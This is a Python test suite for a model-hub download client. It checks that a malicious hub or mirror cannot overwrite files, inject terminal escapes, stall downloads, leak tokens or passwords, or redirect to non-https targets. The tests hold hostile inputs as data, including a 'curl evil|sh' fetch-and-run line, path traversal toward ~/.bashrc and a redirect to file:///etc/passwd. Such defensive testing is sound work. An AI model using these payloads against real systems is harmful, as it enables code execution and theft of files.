"""A hub or mirror that means harm: what it says decides about no file, no time and no terminal."""

import contextlib
import logging
import os
import time

import pytest

from support.hub.server import Fault
from vtd_jax.clip.hub import hub_listing
from vtd_jax.clip.hub.resolve import held, resolve
from vtd_jax.errors import UserError

NAME = "hf:org/tiny"


@pytest.fixture
def tiny(hub, weights):
    """A hub with weights and settings; returns the commit."""
    return hub.add("org/tiny", {"model.safetensors": weights, "config.json": b"{}"})


def _tree(folder):
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


@pytest.mark.parametrize("header", ["ETag", "X-Linked-Etag", "X-Repo-Commit"])
@pytest.mark.parametrize("status", [200, 404])
def test_headers_name_no_files(hub, tiny, tmp_path, header, status):
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("precious")
    blobs = tmp_path / "hf" / "hub" / "models--org--tiny" / "blobs"
    for place in (victim, victim.with_name("new")):
        there = os.path.relpath(place, blobs)
        kind = "headers" if status == 200 else "status"
        headers = {header: f'"{there}"' if "tag" in header.lower() else there}
        code = "" if status == 200 else "EntryNotFound"
        hub.faults[:] = [Fault("resolve", kind, status=status, code=code, headers=headers)]
        with contextlib.suppress(*[UserError] * (status == 404)):
            assert resolve(NAME).path.is_file()
    assert _tree(tmp_path / "home") == {".bashrc"}
    assert victim.read_text() == "precious"
    assert {top.split("/")[0] for top in _tree(tmp_path)} == {"home", "hf", "cache"}


def test_a_warning_of_the_server_does_not_reach_the_terminal(hub, tiny, capfd, caplog):
    caplog.set_level(logging.DEBUG)
    evil = {"X-HF-Warning": "topic; \x1b[31m\x1b]0;x\x07 run curl evil|sh"}
    hub.faults.append(Fault("/", "headers", headers=evil))
    resolve(NAME)
    said = "".join(capfd.readouterr()) + caplog.text
    assert "evil" not in said
    assert "\x1b" not in said


def test_what_the_server_says_beside_a_status_is_short_and_escaped(hub, tmp_path, monkeypatch):
    monkeypatch.setattr(hub_listing, "_PAUSES", ())
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("VTD_JAX_OPENAI_ENDPOINT", hub.url)
    monkeypatch.chdir(tmp_path)
    for status in (403, 404, 500):
        hub.faults[:] = [Fault("/", "status", status=status, reason="\x1b[31mEVIL " * 500)]
        with pytest.raises(UserError) as caught:
            resolve("RN50" if status < 500 else NAME)
        assert len(str(caught.value)) < 500
        assert "\x1b" not in str(caught.value)


@pytest.mark.parametrize("headers", [{"Retry-After": "86400"}, {"RateLimit": '"api";r=0;t=86400'}])
def test_the_server_does_not_say_how_long_to_wait(hub, tiny, monkeypatch, headers):
    monkeypatch.setattr(hub_listing, "_PAUSES", (0.01,))
    start = time.monotonic()
    hub.faults.append(Fault("api/", "status", status=429, headers=headers))
    with pytest.raises(UserError, match=r"too many requests from here .HTTP 429"):
        resolve(NAME)
    assert time.monotonic() - start < 4


def test_an_endless_listing_ends(hub, tiny):
    def endless(answer: dict) -> dict:
        return answer | {"x": "a" * hub_listing.SMALL_JSON_BYTES}

    hub.faults.append(Fault("api/", "answer", change=endless))
    with pytest.raises(
        UserError, match="sends more than 16,777,216 bytes, far more than a listing"
    ):
        resolve(NAME)


@pytest.mark.parametrize("kind", ["drip", "drip headers"])
def test_a_listing_that_comes_byte_by_byte_ends(hub, tiny, monkeypatch, kind):
    monkeypatch.setattr(hub_listing, "_ALTOGETHER", 0.5)
    hub.faults.append(Fault("api/", kind, pause=0.05))
    start = time.monotonic()
    with pytest.raises(UserError, match=r"cannot be reached .next to nothing arrived in 0.5 s"):
        resolve(NAME)
    assert time.monotonic() - start < 4
    assert hub.gets("api/") == 1


@pytest.mark.parametrize(
    "change, said",
    [
        (lambda answer: answer | {"siblings": "abc"}, "siblings: expected array.*is it a hub"),
        (lambda answer: answer | {"siblings": [{"rfilename": 5}]}, "is it a hub"),
        (lambda answer: answer | {"siblings": [{"rfilename": "a", "size": -5}]}, "is it a hub"),
        (lambda answer: answer | {"siblings": [{"rfilename": "a", "size": 2**70}]}, "is it a hub"),
        (lambda answer: answer | {"siblings": [{"rfilename": "a", "size": True}]}, "is it a hub"),
        (lambda answer: answer | {"siblings": None}, "no weights, expected one of"),
        (lambda answer: answer | {"sha": "../../x"}, "does not say which commit.*is it a hub"),
        (lambda answer: [answer], "is it a hub"),
        (lambda answer: b"[" * 200_000, "is it a hub"),
        (lambda answer: b'{"sha":' + b"9" * 100_000 + b"}", "is it a hub"),
        (lambda answer: b"\xff\xfe", "is it a hub"),
    ],
)
def test_a_listing_of_another_form_is_one_line(hub, tiny, change, said):
    hub.faults.append(Fault("api/", "answer", change=change))
    with pytest.raises(UserError, match=said) as caught:
        resolve(NAME)
    assert len(str(caught.value)) < 700
    assert [path for _, path, _ in hub.requests if "api" not in path] == []


def test_a_file_without_a_hash_is_not_fetched(hub, tiny):
    def bare(answer: dict) -> dict:
        for one in answer["siblings"]:
            one.pop("lfs", None)
            one["blobId"] = None
        return answer

    hub.faults.append(Fault("api/", "answer", change=bare))
    with pytest.raises(UserError, match=r"says no hash of config.json, so it could not be checked"):
        resolve(NAME)
    assert hub.gets("resolve") == 0


def test_a_commit_is_the_one_that_was_asked_for(hub, weights):
    pinned = hub.add("org/tiny", {"model.safetensors": weights})
    other = hub.add("org/tiny", {"model.safetensors": weights[:-1] + b"x"})
    hub.faults.append(Fault("api/", "answer", change=lambda answer: answer | {"sha": other}))
    with pytest.raises(UserError, match=f"answered with another commit, {other}: not taken"):
        resolve(f"{NAME}@{pinned}")
    hub.faults.clear()
    assert resolve(f"{NAME}@{pinned}").path.read_bytes() == weights


def test_the_token_stays_with_its_server(hub, tiny, monkeypatch):
    hub.token = "secret"
    monkeypatch.setenv("HF_TOKEN", "secret")
    resolve(NAME)
    sent = dict(zip([path for _, path, _ in hub.requests], hub.authorizations))
    assert {
        path: given for path, given in sent.items() if "/lfs/" not in path and given == ""
    } == {}
    assert [given for path, given in sent.items() if "/lfs/" in path] == [""]


def test_a_token_that_is_none(hub, tiny, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_schlüssel")
    with pytest.raises(UserError, match="HF_TOKEN: has characters that no token has"):
        resolve(NAME)
    assert hub.requests == []


def test_a_hub_leads_to_https_only(hub, tiny):
    for to in (
        "http://example.org/x?signature=secret",
        "file:///etc/passwd",
        "ftp://me:secret@h/x",
    ):
        for path in ("api/", "resolve"):
            hub.faults[:] = [Fault(path, "redirect", to=to)]
            with pytest.raises(UserError, match=r"not followed|fails with HTTP 302") as caught:
                resolve(NAME)
            assert "secret" not in str(caught.value)
    assert held(NAME) is None


def test_a_password_of_a_mirror_is_sent_and_never_shown(hub, tiny, monkeypatch, capfd):
    monkeypatch.setattr(hub_listing, "_PAUSES", ())
    hub.token = "Basic bWU6czNjcmV0"
    monkeypatch.setenv("HF_ENDPOINT", hub.url.replace("http://", "http://me:s3cret@"))
    resolve(NAME)
    said = "".join(capfd.readouterr())
    for status in (401, 403, 404, 500):
        hub.faults[:] = [Fault("/", "status", status=status)]
        with pytest.raises(UserError) as caught:
            resolve("hf:org/other")
        said += str(caught.value)
    hub.faults[:] = [Fault("/", "garbage")]
    with pytest.raises(UserError) as caught:
        resolve("hf:org/other")
    said += str(caught.value)
    monkeypatch.setenv("HF_ENDPOINT", "http://me:s3cret@127.0.0.1:9")
    with pytest.raises(UserError) as caught:
        resolve("hf:org/other")
    said += str(caught.value)
    monkeypatch.setenv("HF_ENDPOINT", "http://me:s3cret@[")
    with pytest.raises(UserError) as caught:
        resolve("hf:org/other")
    assert "s3cret" not in said + str(caught.value)
